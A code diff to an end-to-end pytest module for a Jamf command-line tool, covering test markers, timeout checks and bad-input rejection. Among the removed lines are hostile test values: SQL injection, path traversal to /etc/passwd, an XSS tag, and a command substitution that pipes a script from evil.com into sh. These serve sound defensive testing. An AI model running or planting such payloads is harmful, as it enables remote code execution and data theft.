@@ -2,7 +2,8 @@
 over real HTTP on 127.0.0.1.
 
 Every test gets its own HOME, config folder and a file-backed test keychain (tests/support/keyrings.py),
-so nothing touches the real keychain; one served sandbox is shared by the module.
+so nothing touches the real keychain; one served sandbox is shared by the module. Every test here starts
+real processes: the module is marked `slow` (skip it in a quick loop with `-m "not slow"`).
 """
 from __future__ import annotations
 
@@ -24,7 +25,7 @@ import pytest
 import jamfctl as jamfctl_pkg
 from jamfctl.sandbox import SANDBOX_CLIENT_ID, SANDBOX_CLIENT_SECRET
 
-pytestmark = pytest.mark.e2e
+pytestmark = [pytest.mark.e2e, pytest.mark.slow]
 
 REPO = Path(__file__).resolve().parents[1]
 JAMFCTL = Path(sys.executable).parent / "jamfctl"
@@ -236,7 +237,7 @@ def test_exit_codes(run, served):
     ]
     with ThreadPoolExecutor(max_workers=4) as pool:
         results = list(pool.map(lambda case: run(*case[0], env=case[1]), cases))
-    for (args, _, code), result in zip(cases, results):
+    for (args, _, code), result in zip(cases, results, strict=True):
         assert result.returncode == code, (args, result.stderr)
         assert_no_traceback(result.stderr)
     not_found = json.loads(results[0].stderr.strip().splitlines()[-1])
@@ -271,13 +272,12 @@ def silent_server():
 
 
 def test_server_that_never_answers_times_out_with_exit_7(run, silent_server):
-    """--timeout 1 against a server that accepts and never answers: exit 7, well within 30 s."""
-    started = time.monotonic()
+    """--timeout 1 against a server that accepts and never answers: exit 7 ("timeout"), no traceback.
+    The subprocess limit of 40 s is what proves --timeout was honoured, without timing anything: the
+    default 30 s timeout, tried twice, would outlast it (subprocess.TimeoutExpired fails the test)."""
     result = run("--timeout", "1", "computer", "show", "C02XK1JMJG5H", "-o", "json",
                  env={"JAMF_URL": silent_server, "JAMF_CLIENT_ID": "x", "JAMF_CLIENT_SECRET": "y"}, timeout=40)
-    took = time.monotonic() - started
     assert result.returncode == 7, result.stderr
-    assert took < 30
     assert "timeout" in result.stderr.lower()
     assert_no_traceback(result.stderr)
 
@@ -295,46 +295,17 @@ def test_version(run):
 
 
 # --- bad input ------------------------------------------------------------------------------------------
-BAD_SHOW_ARGS = [
-    ["'; DROP TABLE computers; --"],
-    ["../../../etc/passwd"],
-    ["<script>alert('xss')</script>"],
-    ["$(curl evil.com/shell.sh | sh)"],
-    ['C02X" or hardware.serialNumber=="*'],
-    ["C02X*"],
-    ["ＣＯ２ＸＫ１ＪＭＪＧ５Ｈ"],
-    ["A" * 66],
-    ["C02X K1JM"],
-    ["--id", "0"],
-    ["--id", "-1"],
-    ["--id", "2147483648"],
-    ["--id", "1e3"],
-    ["C02XK1JMJG5H", "--fields", "no.such.field"],
-    ["C02XK1JMJG5H", "--section", "NOPE"],
-]
-BAD_LIST_ARGS = [
-    ["--filter", 'general.name=="unbalanced'],
-    ["--filter", "(general.name==a"],
-    ["--filter", "general.name=like=a"],
-    ["--sort", "general.name:up"],
-    ["--limit", "0"],
-    ["--name", 'x"y'],
-]
-
-
 def test_bad_input_exits_2_and_sends_nothing(run, served):
-    """Malformed serials, ids, fields, filters and formats exit 2, print no traceback, and the served
-    sandbox's access log shows no request at all."""
+    """One malformed filter through the installed script, with working credentials for the served sandbox:
+    exit 2, no traceback, nothing on stdout, and the access log shows no request at all. (The in-process
+    catalogue, tests/test_bad_input_catalogue.py, applies 300+ bad values to every kind of argument; this
+    case proves the same holds for a real process talking to a real server.)"""
     before = served.wait_for_requests(served.requests(), settle=0.1)
-    calls = [("computer", "show", *a, "-o", "json") for a in BAD_SHOW_ARGS]
-    calls += [("computer", "list", *a, "-o", "json") for a in BAD_LIST_ARGS]
-    calls += [("computer", "list", "-o", "xml")]
-    with ThreadPoolExecutor(max_workers=8) as pool:
-        results = list(pool.map(lambda args: run(*args, env=env_creds(served)), calls))
-    for args, result in zip(calls, results):
-        assert result.returncode == 2, (args, result.returncode, result.stderr)
-        assert_no_traceback(result.stderr)
-        assert result.stdout == ""
+    result = run("computer", "list", "--filter", 'general.name=="unbalanced', "-o", "json", env=env_creds(served))
+    assert result.returncode == 2, result.stderr
+    assert "filter" in result.stderr.lower()
+    assert_no_traceback(result.stderr)
+    assert result.stdout == ""
     assert served.wait_for_requests(before, settle=0.3) == before
 
 
